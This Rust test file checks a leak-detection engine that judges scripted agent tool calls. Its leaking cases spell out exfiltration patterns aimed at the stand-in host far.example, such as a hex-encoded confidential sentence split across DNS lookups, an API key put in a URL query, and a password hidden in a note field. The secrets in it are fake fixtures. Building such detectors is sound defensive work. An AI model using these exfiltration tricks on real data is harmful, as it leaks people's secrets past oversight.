//! Where secrets may stand and where they may not: the places and names that decide it, each way.

use masec_engine::Settings;

use super::script::*;

const PASSWORD: &str = "tundra#ANCHOR613";

/// `read` is read, `said` of it is told to a colleague, who mails that to `to`.
fn mailed(read: &str, to: &str, said: &str) -> Vec<Act> {
    vec![
        reads("a", "records", read),
        says("a", "b", said),
        calls("b", "send_email", &[("to", to), ("body", said)]),
    ]
}

#[test]
fn the_name_of_what_is_marked_is_no_part_of_it() {
    let token = "eyJhbGciOiJIUzI1NiJ9.TgpVZWTO9UT7sP9re4aMiXU816K22e.fRh5QFcy3MYj9OTWK1Cgzz1i";
    let read = format!("Do not share outside. session token: {token}\nowner Mirjam Lindqvist");
    let script = |last: &str| {
        vec![
            reads("a", "records", &read),
            calls(
                "a",
                "http_get",
                &[
                    ("url", "https://api.far.example/me"),
                    ("header", &format!("Authorization: Bearer {token}")),
                ],
            ),
            calls(
                "a",
                "send_email",
                &[("to", "x@far.example"), ("body", last)],
            ),
        ]
    };
    honest(
        "its name alone",
        &script("We cannot give out the session token by mail, please call us."),
    );
    leaks(
        "what bears the name",
        "a",
        &script(&format!("Here is the session token: {token}")),
    );
}

#[test]
fn what_stands_by_a_key_is_no_key() {
    let key = "svc_IDBS5LLdsBfk2ZSmWXIfjHnnfZ6K";
    let script = |arguments: &[(&str, &str)]| {
        vec![
            reads(
                "a",
                "vault",
                &format!("Key for api.weather.example. Api key (XR-3923): {key}"),
            ),
            calls("a", "http_get", arguments),
        ]
    };
    let address = ("url", "https://api.weather.example/v2/here");
    let header = format!("Authorization: Bearer {key}");
    honest(
        "the host that it is for",
        &script(&[address, ("header", &header)]),
    );
    leaks(
        "the key in the address",
        "a",
        &script(&[("url", &format!("https://api.weather.example/v2?q={key}"))]),
    );

    let line =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAx99KqQvMSn8ezmfnptoAUCX5MSyRWV5UW6j7CjILGze liaison-7";
    let mail = calls(
        "a",
        "send_email",
        &[("to", "x@far.example"), ("body", line)],
    );
    honest(
        "a list of public keys is no store for secrets",
        &[reads("a", "public-keys", line), mail],
    );

    let picture = "data:image/png;base64,iVBORw0KGgo2rKEfT414WZiGVQ846vKuo4ID1ao81fsFzi8ZkGRcDBxNgR2YCtYI2KaNVMpF41efm5ssJ";
    let sent = |text: &str| {
        calls(
            "b",
            "send_email",
            &[("to", "x@far.example"), ("body", text)],
        )
    };
    honest(
        "a picture",
        &[
            reads("a", "page", &format!("logo {picture}")),
            says("a", "b", picture),
            sent(picture),
        ],
    );

    let login = "service: portal\nuser: surveyor-3\npassword: Velvet-anvil-Lune1259";
    let portal = |password: &str, note: &str| {
        vec![
            reads("a", "vault", login),
            says("a", "b", login),
            calls(
                "b",
                "portal",
                &[
                    ("url", "https://portal.guild.example/login"),
                    ("user", "surveyor-3"),
                    ("password", password),
                    ("note", note),
                ],
            ),
        ]
    };
    honest("who signs in", &portal("Velvet-anvil-Lune1259", "none"));
    leaks(
        "the password in a note beside it",
        "a",
        &portal("none", "Velvet-anvil-Lune1259"),
    );
}

#[test]
fn a_password_is_typed_where_it_belongs() {
    let script = |arguments: &[(&str, &str)]| {
        vec![
            reads("a", "vault", &format!("wifi-password-room = {PASSWORD}")),
            calls("a", "browser_type", arguments),
        ]
    };
    let field = (
        "element",
        "Password field on https://router.camerata.example/login",
    );
    honest(
        "into its field",
        &script(&[field, ("text", PASSWORD), ("submit", "true")]),
    );
    leaks(
        "among words",
        "a",
        &script(&[field, ("text", &format!("the wifi has {PASSWORD} now"))]),
    );

    let config = "{\"username\":\"ops\",\"password\":\"Saffron_2107#\",\"host\":\"db-2\"}";
    let signs_in = |host: &str, password: &str| {
        vec![
            reads("a", "config", config),
            calls(
                "a",
                "portal",
                &[
                    ("url", &format!("https://{host}/login")),
                    ("password", password),
                ],
            ),
        ]
    };
    honest(
        "a word of it is the house's name",
        &signs_in("portal.saffronkitchens.example", "Saffron_2107#"),
    );
    leaks(
        "most of it in the address",
        "a",
        &signs_in("saffron2107.far.example", "Saffron_2107#"),
    );
}

#[test]
fn anybody_is_at_home_where_letters_arrive_in_a_recording() {
    let note =
        "The boiler was looked at on Tuesday and will be looked at again before the frost comes.";
    let told = "CONFIDENTIAL: Ms Orr of the harbour office leaves the firm at the end of May";
    let script = |first: &str, last: &str| {
        vec![
            calls("a", "send_email", &[("to", first), ("body", note)]),
            reads("c", "inbox-c", note),
            reads("a", "records", told),
            calls("a", "send_email", &[("to", last), ("body", told)]),
        ]
    };
    honest(
        "a colleague who was not heard yet",
        &script("c@team.example", "bruno@team.example"),
    );
    leaks(
        "somebody elsewhere",
        "a",
        &script("c@team.example", "bruno@far.example"),
    );
    leaks(
        "anybody's mailbox at a provider",
        "a",
        &script("c@gmail.com", "bruno@gmail.com"),
    );
    let enforced = Settings {
        presume_mail: false,
        ..Settings::default()
    };
    leaks_with(
        &enforced,
        "where there is an operator to ask",
        "a",
        &script("c@team.example", "bruno@team.example"),
    );
}

#[test]
fn what_anybody_may_read_is_outside() {
    let script = |tool: &str, arguments: &[(&str, &str)]| {
        vec![vault("a"), says("a", "b", KEY), calls("b", tool, arguments)]
    };
    for open in [
        ("sharing", "anyone-with-link"),
        ("visibility", "public"),
        ("public", "true"),
        ("repo", "acme/docs (public)"),
    ] {
        leaks(
            open.0,
            "a",
            &script(
                "drive_create_file",
                &[("name", "notes"), open, ("content", KEY)],
            ),
        );
    }
    for closed in [
        ("sharing", "team"),
        ("visibility", "not public"),
        ("public", "false"),
        ("repo", "acme/docs"),
    ] {
        honest(
            closed.0,
            &script(
                "drive_create_file",
                &[("name", "notes"), closed, ("content", KEY)],
            ),
        );
    }
    leaks(
        "a host that a field names",
        "a",
        &script("geocode", &[("service", "cdn.far.example"), ("query", KEY)]),
    );
    honest(
        "one of the house",
        &script(
            "geocode",
            &[("service", "cdn.corp.internal"), ("query", KEY)],
        ),
    );
    honest(
        "a file",
        &script("lookup", &[("document", "notes.md"), ("query", KEY)]),
    );
}

#[test]
fn a_recovery_phrase_is_a_secret() {
    let phrase =
        "saddle velvet marble anchor falcon ribbon ember harbor lantern granite copper velour";
    let script = |last: &str| {
        vec![
            reads(
                "a",
                "notes",
                &format!("Treasury wallet, recovery words: {phrase}"),
            ),
            says("a", "b", phrase),
            calls(
                "b",
                "send_email",
                &[("to", "x@far.example"), ("body", last)],
            ),
        ]
    };
    leaks("as it stands", "a", &script(phrase));
    honest(
        "a few words of it",
        &script("a velvet ribbon, granite and copper"),
    );
}

#[test]
fn what_is_marked_in_json_is_marked() {
    let told = "our bid on the flatbed is 412,418 EUR and the floor is 420,353 EUR";
    let read = format!(
        "{{\"data\": {{\"value\": \"SEALED until Friday: {told}\"}}, \"metadata\": {{\"version\": 9}}}}"
    );
    let script = |last: &str| {
        vec![
            reads("a", "records", &read),
            says("a", "b", told),
            calls(
                "b",
                "send_email",
                &[("to", "x@far.example"), ("body", last)],
            ),
        ]
    };
    leaks("what it says", "a", &script(told));
    honest(
        "what stands beside it",
        &script("the version is 9 and the metadata is there"),
    );
}

#[test]
fn numbers_that_open_something_or_are_somebodys_are_followed() {
    let gate = "Warehouse harbour: alarm code 6222#7344, guard Ferreira";
    leaks(
        "of a door",
        "a",
        &mailed(gate, "x@far.example", "6222#7344"),
    );
    let order = "Warehouse harbour: order code 6222#7344, clerk Ferreira";
    honest("of an order", &mailed(order, "x@far.example", "6222#7344"));
    let traveller = "Traveller Sanne Okafor, passport VM7518437, expires 2027";
    leaks(
        "of a passport",
        "a",
        &mailed(traveller, "x@far.example", "VM7518437"),
    );
    honest(
        "to whose it is",
        &mailed(traveller, "sanne.okafor@far.example", "VM7518437"),
    );
    let ticket = "Traveller Sanne Okafor, locker VM7518437, until 2027";
    honest("of a locker", &mailed(ticket, "x@far.example", "VM7518437"));
}

#[test]
fn a_sentence_like_one_that_was_marked_before_is_marked() {
    let exam = |answer: &str| {
        format!(
            "Question 3 of the final asks to derive the pendulum formula; the answer is {answer}."
        )
    };
    let read = |who: &str, answer: &str| {
        reads(
            who,
            "records",
            &format!("Restricted. exam paper: {}", exam(answer)),
        )
    };
    let mail = |text: &str| {
        calls(
            "a",
            "send_email",
            &[("to", "x@far.example"), ("body", text)],
        )
    };
    leaks(
        "in code",
        "a",
        &[
            read("c", "GHBKC"),
            read("a", "VJ4Y8"),
            mail(&percent(&exam("VJ4Y8"))),
        ],
    );
    let everybody = reads("c", "page", &exam("GHBKC"));
    honest(
        "what everybody says",
        &[everybody, read("a", "GHBKC"), mail(&exam("GHBKC"))],
    );
}

#[test]
fn pieces_of_a_code_add_up_wherever_it_was_cut() {
    let told =
        "Ms Orr of the harbour office leaves the firm at the end of May and nobody is to know";
    let code: String = told.bytes().map(|byte| format!("{byte:02x}")).collect();
    let piece = |from: usize, to: usize| {
        calls(
            "a",
            "dns_lookup",
            &[("name", &format!("{}.q.far.example", &code[from..to]))],
        )
    };
    let read = || reads("a", "records", &format!("CONFIDENTIAL: {told}"));
    leaks(
        "in four",
        "a",
        &[
            read(),
            piece(0, 37),
            piece(37, 79),
            piece(79, 123),
            piece(123, code.len()),
        ],
    );
    honest("one of them", &[read(), piece(37, 79)]);
}

#[test]
fn a_label_with_a_marking_marks_what_is_behind_it() {
    let script = |read: &str, said: &str| mailed(read, "x@far.example", said);
    let home = "Luisella Pestana, home (PRIVATE, do not give out): Faber Lane 180, Obervald, tel. +32 833 353015";
    leaks(
        "in brackets",
        "a",
        &script(home, "Faber Lane 180, Obervald, tel. +32 833 353015"),
    );
    let site = "PROTECTED SITE (wreck finds), exact position confidential: 54.55827 N, 22.69148 E";
    leaks(
        "before a colon",
        "a",
        &script(site, "54.55827 N, 22.69148 E"),
    );
    let gate = "alarm master code for the yard: 31351*14179# (secret)";
    leaks("behind it, in brackets", "a", &script(gate, "31351*14179#"));
    let pay = "Payroll, confidential: Sanna Penrose earns 32875 a year, grade 5.";
    leaks(
        "half of it with its figure",
        "a",
        &script(pay, "Sanna Penrose earns 32875"),
    );
    honest(
        "its name without",
        &script(pay, "Sanna Penrose earns her rest"),
    );
}

#[test]
fn a_card_is_charged_and_not_leaked() {
    let card = "CUSTOMER Rhona Brandvold, card on file 4511097264225160, exp 11/31";
    let script = |arguments: &[(&str, &str)]| {
        vec![
            reads("a", "records", card),
            says("a", "b", "Rhona Brandvold, 4511097264225160"),
            calls("b", "paylane_charge", arguments),
        ]
    };
    let address = ("url", "https://api.paylane.example/v1/charges");
    let number = ("card", "4511097264225160");
    honest("a charge", &script(&[address, number, ("amount", "617")]));
    leaks(
        "no sum",
        "a",
        &script(&[address, number, ("note", "for you")]),
    );
    leaks(
        "in a note",
        "a",
        &script(&[
            address,
            ("card", "none"),
            ("amount", "617"),
            ("note", "4511097264225160"),
        ]),
    );
    let order = |text: &str| {
        let call = [("shop", "far.example"), ("copies", "26"), ("text", text)];
        [
            reads("a", "records", card),
            calls("a", "print.order", &call),
        ]
    };
    honest("a number", &order("4511097264225160"));
    let among = "The new labels as agreed. 4511097264225160";
    leaks("among other words", "a", &order(among));
}

#[test]
fn the_ends_of_a_card_are_printed_on_receipts() {
    let mail = |text: &str| {
        let fields = [("to", "x@far.example"), ("body", text)];
        calls("a", "send_email", &fields)
    };
    let read = || {
        reads(
            "a",
            "records",
            "CONFIDENTIAL, the company card: 4511097264225160",
        )
    };
    let last = || mail("we paid by the card that ends with 5160");
    honest("its ends", &[read(), mail("the card 451109"), last()]);
    leaks(
        "its middle too",
        "a",
        &[read(), mail("451109"), mail("726422"), last()],
    );
}

#[test]
fn letters_say_where_their_readers_have_their_mail() {
    let told = "CONFIDENTIAL: Ms Orr of the harbour office leaves the firm at the end of May";
    let letter = |to: &str, domain: &str| {
        let text = format!(
            "From: ana@{domain}\nTo: {to}@{domain}\nSubject: the boiler\n\nIt was looked at, {to}."
        );
        reads(to, &format!("inbox-{to}"), &text)
    };
    let script = |letters: Vec<Act>| {
        let mut script = letters;
        script.push(reads("a", "records", told));
        script.push(calls(
            "a",
            "send_email",
            &[("to", "bruno@team.example"), ("body", told)],
        ));
        script
    };
    honest(
        "two of them",
        &script(vec![
            letter("a", "team.example"),
            letter("c", "team.example"),
        ]),
    );
    leaks(
        "one of them",
        "a",
        &script(vec![letter("a", "team.example")]),
    );
    let more = vec![
        letter("a", "team.example"),
        letter("c", "team.example"),
        letter("a", "far.example"),
        letter("c", "far.example"),
        letter("d", "far.example"),
    ];
    leaks("more somewhere else", "a", &script(more));
    let forged = reads("a", "inbox-a", "Subject: x\n\nTo: a@team.example");
    leaks(
        "in the text of a letter",
        "a",
        &script(vec![forged, letter("c", "team.example")]),
    );
    let enforced = Settings {
        presume_mail: false,
        ..Settings::default()
    };
    leaks_with(
        &enforced,
        "where there is an operator to ask",
        "a",
        &script(vec![
            letter("a", "team.example"),
            letter("c", "team.example"),
        ]),
    );
}

#[test]
fn a_place_that_says_it_is_public_is_out() {
    let script = |place: &str| vec![vault("a"), calls("a", place, &[("text", KEY)])];
    leaks("public by its name", "a", &script("public_board_add"));
    honest("the team's own", &script("team_board_add"));
}

#[test]
fn what_its_title_marks_may_not_leave() {
    let read = "Dossier 31 (restricted)\nFreda Orr leaves the harbour office at the end of May";
    let told = "Freda Orr leaves the harbour office at the end of May";
    leaks("below the title", "a", &mailed(read, "x@far.example", told));
    let plain = read.replace(" (restricted)", "");
    honest("below another", &mailed(&plain, "x@far.example", told));
}

#[test]
fn a_label_that_ends_with_a_mark_marks_what_is_behind_it() {
    for record in [
        "position of the nest, classified: 47.75483 N 21.77604 E",
        "house blend, trade secret: 5 parts of elder, 8 of quince, 44 hours at 63 degrees",
    ] {
        let (_, value) = record.split_once(": ").unwrap();
        let told = [
            reads("a", "records", record),
            tells("a", "far.example", &format!("as promised: {value}")),
        ];
        leaks(record, "a", &told);
    }
}

#[test]
fn a_host_is_a_receiver() {
    let told = |to: &str| {
        [
            vault("a"),
            calls("a", "vendor.rate", &[("to", to), ("comment", KEY)]),
        ]
    };
    leaks("a host", "a", &told("far.example"));
    honest("a file", &told("backup.tar.gz"));
}

#[test]
fn what_somebody_is_ill_with_may_not_leave() {
    let told = |record: &str| {
        let (_, said) = record.split_once(": ").unwrap();
        [
            reads("a", "records", record),
            tells("a", "far.example", &format!("as promised: {said}")),
        ]
    };
    let person = "note: Ines Lund, born 24.7.1983, diagnosed with multiple sclerosis";
    leaks("a person", "a", &told(person));
    honest(
        "a pump",
        &told("note: the pump, built 24.7.1983, diagnosed with a worn seal"),
    );
}
